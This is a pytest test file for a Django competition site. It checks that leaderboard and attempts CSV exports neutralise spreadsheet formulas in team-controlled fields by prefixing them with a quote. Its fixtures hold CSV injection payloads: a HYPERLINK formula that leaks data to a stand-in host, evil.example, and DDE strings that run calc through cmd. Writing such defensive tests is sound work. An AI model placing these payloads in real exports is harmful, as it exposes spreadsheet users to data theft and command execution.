"""CSV downloads never hand a spreadsheet a formula: a cell a team controls (its name, a reason)
that starts with = + - @, a tab or a carriage return is prefixed with a quote (OWASP's CSV
injection advice); numbers stay numbers, negative ones included."""

import csv
import io

import pytest
from django.test import Client

from competitions.models import Run, Team
from competitions.services import runs as run_service
from tests.factories import finish, submit_ref
from tests.web.test_pages import logged_in

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(response) -> list[dict]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


def test_team_names_that_look_like_formulas_are_quoted_in_the_board_csv(world):
    teams = []
    for i, name in enumerate(FORMULAS):
        team = Team.objects.create(name=name, slug=f"formula-{i}")
        teams.append(team)
        # The slowest teams score best, so the fast ones move up: negative "moved" cells.
        finish(submit_ref(team, world.eval), overall=80.0 - i, runtime=100.0 - 15 * i)
    rows = rows_of(Client().get("/c/xf/leaderboard/eval/csv/"))
    assert sorted(r["team"] for r in rows) == sorted("'" + name for name in FORMULAS)
    assert any(int(r["moved"]) < 0 for r in rows), [r["moved"] for r in rows]
    for row in rows:
        float(row["overall"]), float(row["runtime_s"]), int(row["rank"])  # numbers, unprefixed

    # The hidden board's CSV lists who has a result: the names are quoted there too.
    finish(submit_ref(teams[0], world.final), overall=90.0, runtime=5.0)
    hidden = rows_of(Client().get("/c/xf/leaderboard/final/csv/"))
    assert [r["team"] for r in hidden] == ["'" + FORMULAS[0]]


def test_a_failure_reason_that_starts_like_a_formula_is_quoted_in_the_attempts_csv(world):
    run = submit_ref(world.alpha, world.eval).runs.get()
    claimed = run_service.claim_run(run.pk, "test-worker")
    Run.objects.filter(pk=claimed.pk).update(
        status=Run.Status.FAILED, failure_reason="=cmd|' /C calc'!A0"
    )
    rows = rows_of(logged_in(world.ada).get("/team/attempts.csv"))
    assert [r["failure_reason"] for r in rows] == ["'=cmd|' /C calc'!A0"]
    assert rows[0]["attempt"] == "1"
